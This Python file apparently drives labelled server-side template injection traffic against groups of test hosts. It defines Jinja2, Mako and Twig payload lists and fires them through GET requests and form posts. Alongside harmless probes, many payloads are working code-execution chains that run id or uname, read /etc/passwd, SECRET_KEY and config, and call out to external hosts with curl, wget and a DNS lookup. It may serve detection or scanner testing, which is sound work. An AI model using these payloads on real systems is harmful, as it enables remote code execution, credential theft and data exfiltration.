# SPDX-License-Identifier: GPL-2.0-or-later
"""Templates of Jinja2, Mako and Twig: letters, paths, the page for what is missing; shown, hidden, mended."""
from lib.steps import form, get, q

OUT = '198.51.100.140'
JINJA = ['{{7*7}}', "{{'7'*7}}", '{{1337*31}}', '{{config}}', '{{ config.SECRET_KEY }}', '{{ cycler.__init__.__globals__.os.popen("id").read() }}', "{{ lipsum.__globals__['os'].popen('uname -a').read() }}",
         "{% for x in [1,2,3] %}{{ x*1111 }},{% endfor %}", '{% if 1==1 %}vrai-{{ "a"|upper }}{% endif %}', "{{ ''.__class__.__mro__[1].__subclasses__()|length }}", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
         "{{ request.environ['REMOTE_ADDR'] }}", '{{ 7*', "{{ 'edelweiss'|reverse }}", '{{ range(5)|join("-") }}', "{{ cycler.__init__.__globals__.os.popen('sleep 2').read() }}", "{{ joiner.__init__.__globals__.os.popen('curl -s http://%s:9090/j').read() }}" % OUT,
         "{{ namespace.__init__.__globals__.os.system('touch /tmp/h') }}", '{{ inconnu.attribut }}', '{# rien #}fin', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{{ "%s"|format(4099*3) }}', "{{ dict(a=1).items()|list }}", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/hostname').read() }}",
         "{% set x = 'kon'~'seki' %}{{ x|title }}", '{{ [3,1,2]|sort }}', '{{ "abc"[::-1] }}', "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}", '{{8*8}}{{9*9}}', "{{ ''|attr('__class__') }}", "{{ lipsum.__globals__.os.popen('getent hosts j5.drop.example').read() }}"]
MAKO = ['${7*7}', '${1337*31}', '<% import os %>${os.popen("id").read()}', "${self.module.cache.util.os.popen('uname -a').read()}", '% for i in range(3):\n${i*1111}\n% endfor', '${serie}', '{{7*7}}', "<%\nimport os\nx=os.popen('cat /etc/hostname').read()\n%>${x}", '${', "${'alpage'.upper()}",
        '<%! import time %><% time.sleep(2) %>', '## commentaire\nfin', "${str(3**20)}", '<%include file="/etc/passwd"/>', "${__import__('os').popen('whoami').read()}"]
TWIG = ['{{7*7}}', "{{'7'*7}}", '{{1337*31}}', '{{ "verleih"|upper }}', "{{ ['id']|filter('system') }}", "{{ ['uname -a']|map('system')|join }}", '{{ name|length * 1009 }}', '{% for i in 1..4 %}{{ i*1111 }} {% endfor %}', '{{ dump(app) }}', '{{ _self }}', "{{ ['sleep 2']|map('passthru')|join }}",
        '{{ 7*', '{{ "abc"|reverse }}', "{{ ['cat /etc/passwd']|filter('passthru') }}", '${7*7}', '{{ unbekannt.wert }}', "{{ 'now'|date('Y') * 7 }}", "{{ ['x', 'y']|join('+') }}", '{% set a = 55 %}{{ a * a }}', "{{ [0]|reduce('system', 'id') }}", "{{ max(3, 99) * 101 }}",
        "{{ ['wget -q http://192.0.2.99/t']|filter('exec') }}", '{{ constant("PHP_VERSION") }}', "{{ {'a': 4711}|json_encode|raw }}", "{{ 'Müller'|slice(0,3) }}", '{{ random() }}']


def slow(steps):
    for step in steps:
        far = any(word in step['target'] + str(step.get('body')) for word in ('192.0.2', '198.51', 'drop.example'))
        yield dict(step, pause=1.6 if far else 0.05)


SCENARIO = [
    ([('203.0.113.51', 8000), ('203.0.113.52', 8000), ('203.0.113.53', 8000)], [
        get('/carte/Marthe'), form('/lettre', {'corps': 'Bonjour {{ membre }}'}), *slow(get('/carte/' + q(j), 'ssti') for j in JINJA if '/' not in j), *slow(form('/lettre', {'corps': j}, 'ssti') for j in JINJA[::2]),
        *slow(get('/' + q(j), 'ssti') for j in JINJA[:9] if '/' not in j), *slow(form('/etiquette', {'texte': m}, 'ssti') for m in MAKO), form('/etiquette', {'texte': 'Prairie 12'})]),
    ([('203.0.113.31', 80), ('203.0.113.32', 80), ('203.0.113.33', 80)], [
        form('/serienbrief', {'brief': 'Guten Tag {{ name }}'}), *slow(form('/serienbrief', {'brief': t}, 'ssti', gzip=True, keep=True) for t in TWIG), *slow(get('/serienbrief?brief=' + q(t), 'ssti') for t in TWIG[::3])])]
